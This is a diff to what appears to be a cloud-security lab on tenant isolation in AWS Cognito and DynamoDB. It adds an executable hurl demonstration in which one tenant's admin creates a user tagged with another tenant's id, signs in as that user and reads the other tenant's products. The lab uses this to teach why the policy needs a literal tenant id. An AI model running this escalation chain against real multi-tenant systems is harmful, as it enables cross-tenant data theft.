@@ -1412,6 +1412,121 @@ jsonpath "$.Own.Allowed" includes "dynamodb:Query on the own partition of Produc
 jsonpath "$.Own.Allowed" includes "dynamodb:GetItem on the own partition of ProductBootcamp"
 ```
 
+## Part 7: the minted user, shown
+
+Here is the attack Part 6 guards against, played out on a policy of the lab's own, set on tenant
+one's TenantAdmin role by the operator (it replaces your policy there, which has been graded by
+now): the product statement names the tenant
+through `${aws:PrincipalTag/tenant_id}`, and the role keeps the bootcamp's `AdminCreateUser` on
+its own pool. Ada, tenant one's admin, creates Mallory in tenant one's pool with tenant two's id,
+signs in as Mallory through tenant one's own app client and identity pool, and reads tenant two's
+products. Nothing here is broken by itself; together they let one tenant into another.
+
+```hurl {id=minted-user-demo title="Demonstration: a tenant admin who may create users mints one with another tenant's id" points=0 needs=setup note="Mallory was created by tenant one's admin in tenant one's pool, signed in through tenant one's client and identity pool, and read tenant two's partition: the identity pool tagged her session with the custom:tenant_id her creator chose, and the policy trusted the tag. With the tenant's literal id in the policy, or without AdminCreateUser on the tenant's role, the same steps are refused."}
+POST {{api}}/
+[Options]
+aws-sigv4: aws:amz:{{region}}:iam
+user: {{operator_access_key_id}}:{{operator_secret_access_key}}
+[FormParams]
+Action: PutRolePolicy
+Version: 2010-05-08
+RoleName: {{tenant_one}}-TenantAdmin
+PolicyName: TenantAdminPolicy
+PolicyDocument: {"Version": "2012-10-17", "Statement": [{"Sid": "TenantAdminProductTable", "Effect": "Allow", "Action": ["dynamodb:GetItem", "dynamodb:Query", "dynamodb:PutItem", "dynamodb:DeleteItem"], "Resource": "arn:aws:dynamodb:{{region}}:{{account}}:table/ProductBootcamp", "Condition": {"ForAllValues:StringEquals": {"dynamodb:LeadingKeys": ["${aws:PrincipalTag/tenant_id}"]}}}, {"Sid": "TenantAdminUserPool", "Effect": "Allow", "Action": ["cognito-idp:AdminCreateUser", "cognito-idp:AdminGetUser", "cognito-idp:ListUsers"], "Resource": "arn:aws:cognito-idp:{{region}}:{{account}}:userpool/{{pool_one}}"}]}
+HTTP 200
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityService.SetIdentityPoolRoles
+[Options]
+aws-sigv4: aws:amz:{{region}}:cognito-identity
+user: {{operator_access_key_id}}:{{operator_secret_access_key}}
+{"IdentityPoolId": "{{identity_pool_one}}", "Roles": {"authenticated": "arn:aws:iam::{{account}}:role/{{tenant_one}}-Trust"}, "RoleMappings": {"cognito-idp.{{region}}.amazonaws.com/{{pool_one}}:{{client_one}}": {"Type": "Rules", "AmbiguousRoleResolution": "Deny", "RulesConfiguration": {"Rules": [{"Claim": "custom:role", "MatchType": "Equals", "Value": "TenantAdmin", "RoleARN": "arn:aws:iam::{{account}}:role/{{tenant_one}}-TenantAdmin"}]}}}}
+HTTP 200
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityService.GetId
+{"IdentityPoolId": "{{identity_pool_one}}", "Logins": {"cognito-idp.{{region}}.amazonaws.com/{{pool_one}}": "{{one_token}}"}}
+HTTP 200
+[Captures]
+ada_identity: jsonpath "$.IdentityId"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityService.GetCredentialsForIdentity
+{"IdentityId": "{{ada_identity}}", "Logins": {"cognito-idp.{{region}}.amazonaws.com/{{pool_one}}": "{{one_token}}"}}
+HTTP 200
+[Captures]
+ada_key: jsonpath "$.Credentials.AccessKeyId"
+ada_secret: jsonpath "$.Credentials.SecretKey"
+ada_session: jsonpath "$.Credentials.SessionToken"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityProviderService.AdminCreateUser
+X-Amz-Security-Token: {{ada_session}}
+[Options]
+aws-sigv4: aws:amz:{{region}}:cognito-idp
+user: {{ada_key}}:{{ada_secret}}
+{"UserPoolId": "{{pool_one}}", "Username": "mallory-{{run}}@lab3.example", "UserAttributes": [{"Name": "email", "Value": "mallory-{{run}}@lab3.example"}, {"Name": "custom:tenant_id", "Value": "{{tenant_two}}"}, {"Name": "custom:role", "Value": "TenantAdmin"}]}
+HTTP 200
+
+GET {{api}}/_saaslab/outbox/{{pool_one}}
+[Options]
+aws-sigv4: aws:amz:{{region}}:cognito-idp
+user: {{operator_access_key_id}}:{{operator_secret_access_key}}
+HTTP 200
+[Captures]
+mallory_temporary: jsonpath "$.Messages[?(@.Username == 'mallory-{{run}}@lab3.example')].TemporaryPassword" nth 0
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityProviderService.InitiateAuth
+{"AuthFlow": "USER_PASSWORD_AUTH", "ClientId": "{{client_one}}", "AuthParameters": {"USERNAME": "mallory-{{run}}@lab3.example", "PASSWORD": "{{mallory_temporary}}"}}
+HTTP 200
+[Captures]
+mallory_session: jsonpath "$.Session"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityProviderService.RespondToAuthChallenge
+{"ChallengeName": "NEW_PASSWORD_REQUIRED", "ClientId": "{{client_one}}", "Session": "{{mallory_session}}", "ChallengeResponses": {"USERNAME": "mallory-{{run}}@lab3.example", "NEW_PASSWORD": "Mallory-Passw0rd!"}}
+HTTP 200
+[Captures]
+mallory_token: jsonpath "$.AuthenticationResult.IdToken"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityService.GetId
+{"IdentityPoolId": "{{identity_pool_one}}", "Logins": {"cognito-idp.{{region}}.amazonaws.com/{{pool_one}}": "{{mallory_token}}"}}
+HTTP 200
+[Captures]
+mallory_identity: jsonpath "$.IdentityId"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.1
+X-Amz-Target: AWSCognitoIdentityService.GetCredentialsForIdentity
+{"IdentityId": "{{mallory_identity}}", "Logins": {"cognito-idp.{{region}}.amazonaws.com/{{pool_one}}": "{{mallory_token}}"}}
+HTTP 200
+[Captures]
+mallory_key: jsonpath "$.Credentials.AccessKeyId"
+mallory_secret: jsonpath "$.Credentials.SecretKey"
+mallory_credentials_session: jsonpath "$.Credentials.SessionToken"
+
+POST {{api}}/
+Content-Type: application/x-amz-json-1.0
+X-Amz-Target: DynamoDB_20120810.Query
+X-Amz-Security-Token: {{mallory_credentials_session}}
+[Options]
+aws-sigv4: aws:amz:{{region}}:dynamodb
+user: {{mallory_key}}:{{mallory_secret}}
+{"TableName": "ProductBootcamp", "KeyConditionExpression": "tenant_id = :t", "ExpressionAttributeValues": {":t": {"S": "{{tenant_two}}"}}}
+HTTP 200
+[Asserts]
+jsonpath "$.Items[0].title.S" == "Glass House vase"
+```
+
 Tenant two's catalog is exactly what tenant two put there. You have isolated your tenants: not
 by trusting every line of code, but with credentials that cannot reach another tenant's data.
 
